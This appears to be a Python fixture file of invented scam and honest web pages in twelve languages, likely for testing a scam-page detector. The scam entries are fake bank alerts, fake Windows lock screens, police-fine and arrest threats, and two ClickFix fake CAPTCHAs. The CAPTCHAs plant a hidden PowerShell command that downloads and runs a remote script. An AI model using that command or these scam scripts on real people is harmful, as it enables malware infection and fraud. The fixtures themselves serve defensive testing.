"""Russian, Ukrainian, Arabic, Hebrew, Hindi, Thai, Japanese, Korean, Chinese, Vietnamese, Indonesian, Malay:
review 46's blind pages (invented text, fictional numbers)."""
from kit import P

# ---- ru
P('ru_s_sber', 'scam', 'https://sber-bezopasnost-schet.com/', 'callus-bank', 'ru', 'Счёт заблокирован',
  '''Служба безопасности Сбербанка
Зафиксирована подозрительная операция на сумму 89 500 ₽. Ваша карта временно заблокирована.
Чтобы отменить перевод, срочно позвоните в службу безопасности: 8 800 555-01-42.''')

P('ru_s_bsod', 'scam', 'https://preduprezhdenie-pc.azurewebsites.net/', 'screen-bsod', 'ru', 'Безопасность Windows',
  '''Доступ к этому компьютеру заблокирован
Ваш компьютер заражён троянской программой. Пароли и банковские данные под угрозой.
Не выключайте компьютер. Позвоните в службу поддержки Microsoft: 8 800 555-01-75''', beh='fullscreen')

P('ru_s_mvd', 'scam', 'https://mvd-kiber-shtraf.top/', 'police-lock', 'ru', 'МВД России',
  '''ВАШ БРАУЗЕР ЗАБЛОКИРОВАН
Управление «К» МВД России зафиксировало просмотр запрещённых материалов с вашего IP-адреса.
Для разблокировки оплатите штраф 3 000 рублей в течение 12 часов. В противном случае будет возбуждено уголовное дело.''', beh='fullscreen,key_block')

P('ru_h_sber', 'honest', 'https://www.sberbank.ru/ru/person/dist_services/warning', 'h-fraudwarn', 'ru', 'Осторожно, мошенники | СберБанк',
  '''Мошенники представляются сотрудниками службы безопасности банка и просят перевести деньги на «безопасный счёт».
Сбербанк никогда не просит сообщать коды из СМС. Если вам позвонили, положите трубку и перезвоните по номеру 900.''')

P('ru_h_repair', 'honest', 'https://www.remont-pc-msk.example/', 'h-repair', 'ru', 'Ремонт компьютеров',
  '''Компьютер заблокирован вирусом? Удалим баннер-вымогатель, восстановим данные. Выезд мастера по Москве. Звоните: +7 495 555-01-02.''')

# ---- uk
P('uk_s_privat', 'scam', 'https://privat-bezpeka-rahunok.com/', 'callus-bank', 'uk', 'Рахунок заблоковано',
  '''ПриватБанк: служба безпеки
Виявлено підозрілу операцію на суму 24 800 грн. Вашу картку тимчасово заблоковано.
Щоб скасувати переказ, негайно зателефонуйте: 0 800 555 014.''')

P('uk_s_bsod', 'scam', 'https://poperedzhennia-pc.azurewebsites.net/', 'screen-bsod', 'uk', 'Безпека Windows',
  '''Доступ до цього комп'ютера заблоковано
Ваш комп'ютер заражено троянською програмою. Паролі та банківські дані під загрозою.
Не вимикайте комп'ютер. Зателефонуйте до служби підтримки Microsoft: 0 800 555 017''', beh='fullscreen')

P('uk_h_cyberpolice', 'honest', 'https://cyberpolice.gov.ua/news/shakhraiski-vikna', 'h-police', 'uk', 'Шахрайські вікна в браузері',
  '''Шахраї показують фальшиві повідомлення, що комп'ютер заблоковано і потрібно зателефонувати. Не телефонуйте і не сплачуйте штрафи. Поліція не блокує комп'ютери.''')

P('uk_h_exam', 'honest', 'https://test.osvita-prykl.example/ispyt', 'h-exam', 'uk', 'Іспит',
  '''Іспит триває. Браузер заблоковано до завершення тесту. Вихід з повноекранного режиму буде зафіксовано.
Технічні проблеми: зверніться до адміністратора, тел. 044 555 0170.''', beh='fullscreen,keyboard_lock')

# ---- ar
P('ar_s_rajhi', 'scam', 'https://alrajhi-amn-hesab.com/', 'callus-bank', 'ar', 'تم إيقاف الحساب',
  '''مصرف الراجحي - تنبيه أمني
تم رصد عملية مشبوهة بقيمة 7,500 ريال. تم إيقاف بطاقتك مؤقتاً.
اتصل فوراً بقسم مكافحة الاحتيال على الرقم 800 555 0142 لإلغاء العملية.''')

P('ar_s_bsod', 'scam', 'https://tahdhir-pc.azurewebsites.net/', 'screen-bsod', 'ar', 'أمان Windows',
  '''تم حظر الوصول إلى هذا الكمبيوتر
جهازك مصاب بفيروس تروجان. كلمات المرور وبياناتك المصرفية في خطر.
لا تقم بإيقاف تشغيل الكمبيوتر. اتصل بدعم مايكروسوفت: 800 555 0175''', beh='fullscreen')

P('ar_s_captcha', 'scam', 'https://tahaqquq-insan.top/', 'clickfix-captcha', 'ar', 'تحقق',
  '''أنا لست روبوت
للتحقق: اضغط على مفتاح Windows + R ثم Ctrl + V ثم Enter''', clip='powershell -w h -c "iwr ar.example-host.top/t.ps1|iex" # I am not a robot')

P('ar_h_bank', 'honest', 'https://www.alrajhibank.com.sa/ar/security', 'h-fraudwarn', 'ar', 'الأمان | مصرف الراجحي',
  '''لن يطلب منك المصرف أبداً رمز التحقق أو كلمة المرور عبر الهاتف. إذا ظهرت رسالة تقول إن جهازك مقفل وتطلب الاتصال برقم، فلا تتصل. لإيقاف البطاقة اتصل على 920 555 014.''')

P('ar_h_repair', 'honest', 'https://www.siyanat-computer.example/', 'h-repair', 'ar', 'صيانة الكمبيوتر',
  '''هل جهازك بطيء أو مصاب بفيروس؟ نقوم بإزالة الفيروسات واستعادة البيانات. اتصل بنا: 011 555 0102.''')

# ---- he
P('he_s_leumi', 'scam', 'https://leumi-avtacha-heshbon.com/', 'callus-bank', 'he', 'החשבון נחסם',
  '''בנק לאומי - התראת אבטחה
זוהתה פעולה חשודה בסך 6,400 ₪. הכרטיס שלך נחסם זמנית.
התקשר מיד למחלקת ההונאות בטלפון 1-800-555-014 כדי לבטל את הפעולה.''')

P('he_s_bsod', 'scam', 'https://azhara-pc.azurewebsites.net/', 'screen-bsod', 'he', 'אבטחת Windows',
  '''הגישה למחשב זה נחסמה
המחשב שלך נגוע בסוס טרויאני. הסיסמאות והפרטים הבנקאיים שלך בסכנה.
אל תכבה את המחשב. התקשר לתמיכה של מיקרוסופט: 1-809-555-017''', beh='fullscreen')

P('he_h_police', 'honest', 'https://www.gov.il/he/departments/news/fake-support-warning', 'h-police', 'he', 'אזהרה מפני תמיכה מזויפת',
  '''נוכלים מציגים הודעות מזויפות שהמחשב נעול ומבקשים להתקשר למספר טלפון. אל תתקשרו ואל תתקינו תוכנות שליטה מרחוק.''')

P('he_h_repair', 'honest', 'https://www.tikun-machshevim.example/', 'h-repair', 'he', 'תיקון מחשבים',
  '''המחשב איטי או נגוע בווירוס? הסרת וירוסים, שחזור מידע. התקשרו 03-555-0102.''')

# ---- hi
P('hi_s_sbi', 'scam', 'https://sbi-suraksha-khata.com/', 'callus-bank', 'hi', 'खाता ब्लॉक',
  '''भारतीय स्टेट बैंक - सुरक्षा चेतावनी
आपके खाते से ₹48,000 का संदिग्ध लेनदेन पाया गया है। आपका कार्ड अस्थायी रूप से ब्लॉक कर दिया गया है।
लेनदेन रद्द करने के लिए तुरंत हमारे धोखाधड़ी विभाग को 1800 555 0142 पर कॉल करें।''')

P('hi_s_bsod', 'scam', 'https://chetavani-pc.azurewebsites.net/', 'screen-bsod', 'hi', 'Windows सुरक्षा',
  '''इस कंप्यूटर तक पहुँच ब्लॉक कर दी गई है
आपका कंप्यूटर ट्रोजन वायरस से संक्रमित है। आपके पासवर्ड और बैंक विवरण खतरे में हैं।
कंप्यूटर बंद न करें। Microsoft सहायता को कॉल करें: 1800 555 0175''', beh='fullscreen')

P('hi_s_arrest', 'scam', 'https://cbi-notice-digital.top/', 'debt-arrest', 'hi', 'CBI नोटिस',
  '''केंद्रीय जांच ब्यूरो: आपके आधार नंबर से जुड़े खाते में मनी लॉन्ड्रिंग पाई गई है। आपके खिलाफ गिरफ्तारी वारंट जारी किया गया है।
डिजिटल गिरफ्तारी से बचने के लिए तुरंत 022 555 0126 पर कॉल करें और जांच शुल्क जमा करें।''')

P('hi_h_bank', 'honest', 'https://sbi.co.in/web/personal-banking/information-services/security-tips', 'h-fraudwarn', 'hi', 'सुरक्षा सुझाव | SBI',
  '''SBI कभी भी फोन पर OTP या पिन नहीं मांगता। "डिजिटल गिरफ्तारी" जैसी कोई चीज़ नहीं होती। संदिग्ध लेनदेन की रिपोर्ट के लिए 1800 555 0124 पर कॉल करें।''')

P('hi_h_repair', 'honest', 'https://www.computer-repair-delhi.example/', 'h-repair', 'hi', 'कंप्यूटर रिपेयर',
  '''कंप्यूटर धीमा है या वायरस है? हम वायरस हटाते हैं और डेटा रिकवर करते हैं। कॉल करें: 011 5550 0102''')

# ---- th
P('th_s_kbank', 'scam', 'https://kbank-khwam-plodphai.com/', 'callus-bank', 'th', 'บัญชีถูกระงับ',
  '''ธนาคารกสิกรไทย แจ้งเตือนความปลอดภัย
ตรวจพบรายการโอนเงินที่น่าสงสัยจำนวน 35,000 บาท บัตรของคุณถูกระงับชั่วคราว
โปรดโทรหาฝ่ายป้องกันการทุจริตทันทีที่ 02 555 0142 เพื่อยกเลิกรายการ''')

P('th_s_bsod', 'scam', 'https://tuan-pc.azurewebsites.net/', 'screen-bsod', 'th', 'ความปลอดภัยของ Windows',
  '''การเข้าถึงคอมพิวเตอร์เครื่องนี้ถูกบล็อก
คอมพิวเตอร์ของคุณติดไวรัสโทรจัน รหัสผ่านและข้อมูลธนาคารของคุณตกอยู่ในอันตราย
อย่าปิดเครื่อง โทรหาฝ่ายสนับสนุน Microsoft: 1800 555 017''', beh='fullscreen')

P('th_h_police', 'honest', 'https://www.thaipoliceonline.go.th/tips', 'h-police', 'th', 'เตือนภัยหน้าจอปลอม',
  '''มิจฉาชีพแสดงหน้าจอปลอมว่าคอมพิวเตอร์ถูกล็อกและให้โทรหาหมายเลขโทรศัพท์ อย่าโทร อย่าติดตั้งโปรแกรมควบคุมระยะไกล''')

P('th_h_repair', 'honest', 'https://www.som-computer.example/', 'h-repair', 'th', 'ซ่อมคอมพิวเตอร์',
  '''คอมช้าหรือติดไวรัส? เรากำจัดไวรัสและกู้ข้อมูล โทร 02 555 0102''')

# ---- ja
P('ja_s_mufg', 'scam', 'https://mufg-anzen-kouza.com/', 'callus-bank', 'ja', '口座凍結のお知らせ',
  '''三菱UFJ銀行 セキュリティ通知
お客様の口座で不審な送金（198,000円）を検知しました。キャッシュカードを一時的に停止しました。
送金を取り消すには、至急不正対策窓口 0120-555-014 までお電話ください。''')

P('ja_s_bsod', 'scam', 'https://keikoku-pc.azurewebsites.net/', 'screen-bsod', 'ja', 'Windows セキュリティ',
  '''このコンピューターへのアクセスはブロックされました
お使いのコンピューターはトロイの木馬に感染しています。パスワードと銀行情報が危険にさらされています。
コンピューターの電源を切らないでください。Microsoft サポートに電話してください：0120-555-017''', beh='fullscreen')

P('ja_s_docomo', 'scam', 'https://docomo-kaisen-teishi.site/', 'callus-carrier', 'ja', '回線停止予告',
  '''【重要】ドコモ回線停止のお知らせ
お客様の回線で不正利用が確認されたため、2時間後に回線を停止します。
停止を解除するには、ドコモサポートセンター 050-5555-0133 へ今すぐお電話ください。''')

P('ja_s_yamato', 'scam', 'https://yamato-fuzai-renraku.info/', 'callus-delivery', 'ja', '不在通知',
  '''ヤマト運輸：お荷物をお届けにあがりましたが不在のため持ち帰りました。再配達のご依頼は 050-5555-0121 までお電話ください。本日中にご連絡がない場合、返送されます。''')

P('ja_s_captcha', 'scam', 'https://ningen-kakunin.top/', 'clickfix-captcha', 'ja', '確認',
  '''私はロボットではありません
確認手順：1. Windowsキー + R を押す 2. Ctrl + V を押す 3. Enter を押す''', clip='powershell -w h -c "iwr ja.example-host.top/k.ps1|iex" # 私はロボットではありません ID 5550119')

P('ja_h_ipa', 'honest', 'https://www.ipa.go.jp/security/anshin/attention/fake-alert.html', 'h-consumer', 'ja', '偽のセキュリティ警告に注意',
  '''ウェブサイトを閲覧中に「ウイルスに感染しています。サポートに電話してください」という偽の警告が表示される相談が増えています。
表示された電話番号には絶対に電話しないでください。ブラウザーを終了すれば消えます。''')

P('ja_h_repair', 'honest', 'https://www.pc-shuri-osaka.example/', 'h-repair', 'ja', 'パソコン修理 大阪',
  '''パソコンが遅い、ウイルスに感染したかも？ウイルス駆除・データ復旧・出張修理いたします。お電話：06-5555-0102（10時〜19時）''')

P('ja_h_docomo', 'honest', 'https://www.docomo.ne.jp/support/sim/activate/', 'h-carrier-sim', 'ja', 'SIMカードの開通手続き | ドコモ',
  '''新しいSIMカードを挿入後、開通手続きを行ってください。開通できない場合はドコモインフォメーションセンター（151）へお問い合わせください。''')

# ---- ko
P('ko_s_kb', 'scam', 'https://kbstar-boan-gyejwa.com/', 'callus-bank', 'ko', '계좌 정지',
  '''KB국민은행 보안 알림
고객님의 계좌에서 2,450,000원의 의심 거래가 감지되었습니다. 카드가 일시 정지되었습니다.
거래를 취소하려면 즉시 사기 예방팀 080-555-0142로 전화하십시오.''')

P('ko_s_bsod', 'scam', 'https://gyeonggo-pc.azurewebsites.net/', 'screen-bsod', 'ko', 'Windows 보안',
  '''이 컴퓨터에 대한 액세스가 차단되었습니다
컴퓨터가 트로이 목마에 감염되었습니다. 비밀번호와 은행 정보가 위험합니다.
컴퓨터를 끄지 마십시오. Microsoft 지원에 전화하십시오: 080-555-0175''', beh='fullscreen')

P('ko_s_police', 'scam', 'https://police-cyber-beolgeum.top/', 'police-lock', 'ko', '경찰청 사이버수사',
  '''귀하의 브라우저가 차단되었습니다
경찰청 사이버수사대는 귀하의 IP 주소에서 불법 콘텐츠 열람을 확인했습니다.
차단을 해제하려면 24시간 이내에 벌금 300,000원을 납부하십시오.''', beh='fullscreen,key_block')

P('ko_h_bank', 'honest', 'https://www.kbstar.com/security/notice', 'h-fraudwarn', 'ko', '금융사기 예방 | KB국민은행',
  '''은행은 절대 전화로 비밀번호나 OTP를 요구하지 않습니다. 컴퓨터가 잠겼다며 전화하라는 메시지는 사기입니다. 카드 분실 신고: 1588-5550.''')

P('ko_h_game', 'honest', 'https://game.yeje.example/space', 'h-game', 'ko', '우주 탈출',
  '''시스템 오류! 엔진이 과열되었습니다. 스페이스바를 눌러 탈출하세요. 게임 오버. 점수 5501.''', beh='fullscreen,pointer_lock')

# ---- zh
P('zh_s_icbc', 'scam', 'https://icbc-anquan-zhanghu.com/', 'callus-bank', 'zh', '账户已冻结',
  '''中国工商银行 安全提醒
您的账户检测到一笔可疑交易，金额 ¥28,000。您的银行卡已被临时冻结。
如需撤销交易，请立即拨打反诈骗专线 400-555-0142。''')

P('zh_s_bsod', 'scam', 'https://jinggao-pc.azurewebsites.net/', 'screen-bsod', 'zh', 'Windows 安全中心',
  '''此电脑的访问已被阻止
您的电脑已感染木马病毒。您的密码和银行信息面临风险。
请勿关机。请拨打微软技术支持电话：400-555-0175''', beh='fullscreen')

P('zh_s_alipay', 'scam', 'https://alipay-tuikuan-kefu.site/', 'callus-paypal', 'zh', '支付宝退款',
  '''支付宝通知：您的账户有一笔 ¥1,999 的自动扣费。如非本人操作，请在 30 分钟内拨打客服 400-555-0131 申请退款，否则将无法退回。''')

P('zh_h_repair', 'honest', 'https://www.diannao-weixiu.example/', 'h-repair', 'zh', '电脑维修',
  '''电脑中毒、运行缓慢？我们提供病毒清除、数据恢复、上门维修服务。电话：021-5555-0102''')

P('zh_h_police', 'honest', 'https://www.gongan-fanzha.example.cn/tips', 'h-police', 'zh', '警惕虚假电脑警告',
  '''骗子会在浏览器弹出"电脑已被锁定，请拨打客服电话"的虚假警告。请不要拨打，直接关闭浏览器。公安机关从不通过网页收取罚款。''')

# ---- vi
P('vi_s_vcb', 'scam', 'https://vietcombank-baomat-taikhoan.com/', 'callus-bank', 'vi', 'Tài khoản bị khóa',
  '''Vietcombank - Cảnh báo bảo mật
Phát hiện giao dịch đáng ngờ 25.000.000 VND. Thẻ của quý khách đã bị tạm khóa.
Vui lòng gọi ngay bộ phận chống gian lận: 1800 555 014 để hủy giao dịch.''')

P('vi_s_bsod', 'scam', 'https://canhbao-pc.azurewebsites.net/', 'screen-bsod', 'vi', 'Bảo mật Windows',
  '''Quyền truy cập vào máy tính này đã bị chặn
Máy tính của bạn bị nhiễm virus Trojan. Mật khẩu và thông tin ngân hàng đang gặp nguy hiểm.
Không tắt máy tính. Gọi hỗ trợ Microsoft: 1800 555 017''', beh='fullscreen')

P('vi_h_repair', 'honest', 'https://www.suamaytinh-hanoi.example/', 'h-repair', 'vi', 'Sửa máy tính Hà Nội',
  '''Máy tính chậm hoặc bị virus? Diệt virus, cứu dữ liệu, sửa tại nhà. Gọi 024 5555 0102.''')

P('vi_h_shopee', 'honest', 'https://shopee.vn/user/purchase/order/5550181', 'h-market-order', 'vi', 'Chi tiết đơn hàng',
  '''Đơn hàng 5550181 - Tai nghe không dây. Đã thanh toán. Dự kiến giao ngày mai.
Hủy đơn hàng. Cần hỗ trợ? Trò chuyện với Shopee trong mục Trợ giúp.''')

# ---- id
P('id_s_bca', 'scam', 'https://bca-keamanan-rekening.com/', 'callus-bank', 'id', 'Rekening diblokir',
  '''BCA - Peringatan keamanan
Kami mendeteksi transaksi mencurigakan sebesar Rp 7.500.000. Kartu Anda diblokir sementara.
Segera hubungi bagian anti-penipuan di 1500 555 untuk membatalkan transaksi.''')

P('id_s_bsod', 'scam', 'https://peringatan-pc.azurewebsites.net/', 'screen-bsod', 'id', 'Keamanan Windows',
  '''Akses ke komputer ini telah diblokir
Komputer Anda terinfeksi virus Trojan. Kata sandi dan data bank Anda dalam bahaya.
Jangan matikan komputer. Hubungi dukungan Microsoft: 0800 555 0175''', beh='fullscreen')

P('id_s_shopee', 'scam', 'https://shopee-refund-cs.site/', 'callus-market', 'id', 'Shopee Refund',
  '''Pesanan Anda senilai Rp 4.999.000 telah dibayar. Jika bukan Anda, hubungi CS Shopee di 021 555 0188 dalam 1 jam untuk refund.''')

P('id_h_bank', 'honest', 'https://www.bca.co.id/id/informasi/awas-modus', 'h-fraudwarn', 'id', 'Awas Modus Penipuan | BCA',
  '''BCA tidak pernah meminta PIN atau OTP melalui telepon. Jangan hubungi nomor yang muncul di pop-up yang mengatakan komputer Anda terkunci. Halo BCA 1500 555.''')

P('id_h_repair', 'honest', 'https://www.servis-laptop-jakarta.example/', 'h-repair', 'id', 'Servis Laptop Jakarta',
  '''Laptop lambat atau kena virus? Kami bersihkan virus dan pulihkan data. Hubungi 021 5555 0102.''')

# ---- ms
P('ms_s_maybank', 'scam', 'https://maybank-keselamatan-akaun.com/', 'callus-bank', 'ms', 'Akaun disekat',
  '''Maybank - Amaran keselamatan
Kami mengesan transaksi mencurigakan sebanyak RM 3,200. Kad anda telah disekat buat sementara.
Sila hubungi bahagian anti-penipuan dengan segera di 1-300-555-014 untuk membatalkan transaksi.''')

P('ms_s_bsod', 'scam', 'https://amaran-pc.azurewebsites.net/', 'screen-bsod', 'ms', 'Keselamatan Windows',
  '''Akses ke komputer ini telah disekat
Komputer anda dijangkiti virus Trojan. Kata laluan dan maklumat bank anda dalam bahaya.
Jangan matikan komputer. Hubungi sokongan Microsoft: 1-800-555-017''', beh='fullscreen')

P('ms_h_bank', 'honest', 'https://www.maybank2u.com.my/maybank2u/malaysia/en/personal/security.page', 'h-fraudwarn', 'ms', 'Keselamatan | Maybank',
  '''Maybank tidak akan meminta TAC atau kata laluan melalui telefon. Jangan hubungi nombor yang dipaparkan dalam amaran palsu. Laporkan penipuan: 1-300-555-010.''')

P('ms_h_pdrm', 'honest', 'https://www.rmp.gov.my/infor-korporate/jenayah-komersil', 'h-police', 'ms', 'Jenayah komersil',
  '''Penipu menyamar sebagai polis dan mengatakan ada waran tangkap. PDRM tidak pernah meminta bayaran melalui telefon. Letakkan telefon dan laporkan.''')
